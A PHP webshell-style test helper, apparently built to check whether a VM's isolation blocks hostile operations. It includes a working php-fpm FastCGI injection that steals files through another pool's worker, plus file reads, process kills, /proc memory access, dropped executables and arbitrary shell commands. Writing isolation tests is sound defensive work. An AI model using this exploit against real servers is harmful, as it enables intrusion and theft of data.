<?php
// A webshell's toolbox for tests/test_vm_attacks.py: ONE hostile (or legit) operation per
// request, named by the FastCGI params ATTACK_OP and ATTACK_TARGET (no URL encoding, so the
// VM's shell can put live pids into them). Prints one line "PROBE-JSON {ok, errno, detail,
// uid, pid}" like tests/vm/probe.php. Only syscalls PHP offers a webshell are used.
ob_start();
$GLOBALS['errs'] = [];
set_error_handler(function ($no, $msg) {
    $GLOBALS['errs'][] = $msg;
    return true;
});

// errno from the libc message at the end of PHP's last warning ("...: Permission denied").
function last_errno() {
    $last = end($GLOBALS['errs']);
    if ($last === false) {
        return null;
    }
    for ($i = 1; $i < 134; $i++) {
        $s = posix_strerror($i);
        if ($s !== '' && substr($last, -strlen($s)) === $s) {
            return $i;
        }
    }
    return null;
}

// "a=>b" targets: two paths.
function pair($t) {
    $p = explode('=>', $t, 2);
    return count($p) == 2 ? $p : [$t, ''];
}

// Run argv without a shell; exit 126/127 of a program that exists = refused (EACCES).
function run_argv($argv) {
    $p = proc_open($argv, [0 => ['pipe', 'r'], 1 => ['pipe', 'w'], 2 => ['pipe', 'w']], $pipes);
    if (!is_resource($p)) {
        return [false, last_errno(), 'proc_open failed'];
    }
    fclose($pipes[0]);
    $out = stream_get_contents($pipes[1]);
    $err = stream_get_contents($pipes[2]);
    fclose($pipes[1]);
    fclose($pipes[2]);
    $st = proc_close($p);
    $errno = null;
    if ($st == 126 || $st == 127) {
        $errno = file_exists($argv[0]) ? 13 : 2;
    } elseif ($st !== 0 && stripos($err, 'Permission denied') !== false) {
        $errno = 13;  // a shell builtin (kill, >) refused
    } elseif ($st !== 0 && stripos($err, 'Operation not permitted') !== false) {
        $errno = 1;
    }
    return [$st === 0, $errno, "exit=$st out=" . substr(trim($out), 0, 120) . ' err=' . substr(trim($err), 0, 120)];
}

// FastCGI record (version 1).
function fcgi_record($type, $content, $id = 1) {
    $len = strlen($content);
    return pack('CCnnCC', 1, $type, $id, $len, 0, 0) . $content;
}

function fcgi_params($params) {
    $body = '';
    foreach ($params as $k => $v) {
        foreach ([strlen($k), strlen($v)] as $n) {
            $body .= $n < 128 ? chr($n) : pack('N', $n | 0x80000000);
        }
        $body .= $k . $v;
    }
    return $body;
}

// The classic php-fpm socket attack: PHP_ADMIN_VALUE makes the victim pool run our code
// (a data: URL as auto_prepend_file) in ITS worker, under ITS hat.
function fcgi_inject($sock, $script, $steal) {
    $s = stream_socket_client('unix://' . $sock, $en, $es, 3);
    if (!$s) {
        return [false, $en ?: last_errno(), "connect: $es"];
    }
    $code = '<?php echo "STOLEN[", getmypid(), "]:", base64_encode((string)@file_get_contents('
          . var_export($steal, true) . ')), ":END"; exit;';
    $params = [
        'SCRIPT_FILENAME' => $script, 'SCRIPT_NAME' => '/index.php', 'REQUEST_METHOD' => 'GET',
        'QUERY_STRING' => '', 'SERVER_PROTOCOL' => 'HTTP/1.1', 'GATEWAY_INTERFACE' => 'CGI/1.1',
        // Quoted: the INI parser would take ';' for a comment.
        'PHP_ADMIN_VALUE' => "allow_url_include = On\nauto_prepend_file = \"data://text/plain;base64,"
                             . base64_encode($code) . '"',
    ];
    $req = fcgi_record(1, pack('nCx5', 1, 0)) . fcgi_record(4, fcgi_params($params))
         . fcgi_record(4, '') . fcgi_record(5, '');
    fwrite($s, $req);
    stream_set_timeout($s, 5);
    $resp = stream_get_contents($s);
    fclose($s);
    if (preg_match('/STOLEN\[(\d+)\]:([A-Za-z0-9+\/=]*):END/', $resp, $m)) {
        $data = base64_decode($m[2]);
        return [$data !== '', $data !== '' ? null : 13,
                "victim_pid=$m[1] bytes=" . strlen($data) . ' head=' . substr($data, 0, 60)];
    }
    return [false, null, 'connected, no injected output: ' . substr(preg_replace('/[^ -~]/', '.', $resp), 0, 200)];
}

$op = isset($_SERVER['ATTACK_OP']) ? $_SERVER['ATTACK_OP'] : '';
$t = isset($_SERVER['ATTACK_TARGET']) ? $_SERVER['ATTACK_TARGET'] : '';
$ok = false;
$errno = null;
$detail = '';
switch ($op) {
    case 'read':  // also through links, /proc files
        $d = file_get_contents($t);
        $ok = $d !== false;
        $detail = $ok ? 'bytes=' . strlen($d) . ' head=' . substr(str_replace("\0", ' ', $d), 0, 60) : '';
        break;
    case 'symlink':  // LINK=>DEST
        list($link, $dest) = pair($t);
        @unlink($link);
        $ok = symlink($dest, $link);
        break;
    case 'link':  // NEW=>EXISTING (a hard link)
        list($new, $old) = pair($t);
        $ok = link($old, $new);
        break;
    case 'rename':  // FROM=>TO, FROM written first (an atomic cache write)
        list($from, $to) = pair($t);
        $ok = file_put_contents($from, "cache\n") !== false && rename($from, $to);
        break;
    case 'connect':
        $s = stream_socket_client('unix://' . $t, $en, $es, 3);
        $ok = $s !== false;
        $errno = $ok ? null : $en;
        $detail = $ok ? 'connected' : "error=$es";
        if ($ok) {
            fclose($s);
        }
        break;
    case 'fcgi':  // SOCKET=>SCRIPT, steals STEAL_FILE through the victim's worker
        list($sock, $script) = pair($t);
        list($ok, $errno, $detail) = fcgi_inject($sock, $script, $_SERVER['ATTACK_STEAL']);
        break;
    case 'kill':  // PID[:SIGNAL]
        $p = explode(':', $t);
        $ok = posix_kill((int)$p[0], isset($p[1]) ? (int)$p[1] : 15);
        $errno = $ok ? null : posix_get_last_error();
        break;
    case 'ptrace':  // open /proc/PID/mem: the kernel asks for ptrace attach
        $f = fopen($t, 'r');
        $ok = $f !== false;
        if ($ok) {
            fclose($f);
        }
        break;
    case 'dropexec':  // write a "miner", make it executable, run it
        $w = file_put_contents($t, "#!/bin/sh\necho mining\n");
        if ($w === false) {
            $errno = last_errno();
            $detail = 'write refused';
            break;
        }
        $c = chmod($t, 0755) ? 'chmod ok' : 'chmod refused';
        list($ok, $errno, $d) = run_argv([$t]);
        $detail = "written, $c, $d";
        break;
    case 'shc':  // popen()'s shell with a command of our choosing
        list($ok, $errno, $detail) = run_argv(['/bin/sh', '-c', $t]);
        break;
    case 'self':  // signal 0 to itself: the legit neighbour of 'kill'
        $ok = posix_kill(getmypid(), 0);
        break;
    default:
        $detail = 'unknown op';
}
if (!$ok && $errno === null) {
    $errno = last_errno();
}
if (!$ok && $GLOBALS['errs']) {
    $detail = trim($detail . ' error=' . end($GLOBALS['errs']));
}
$stray = ob_get_clean();
$res = ['ok' => $ok, 'errno' => $errno, 'detail' => $detail, 'uid' => posix_geteuid(), 'pid' => getmypid()];
if ($stray !== '') {
    $res['output'] = substr($stray, 0, 300);
}
echo "PROBE-JSON ", json_encode($res, JSON_UNESCAPED_SLASHES | JSON_INVALID_UTF8_SUBSTITUTE), "\n";
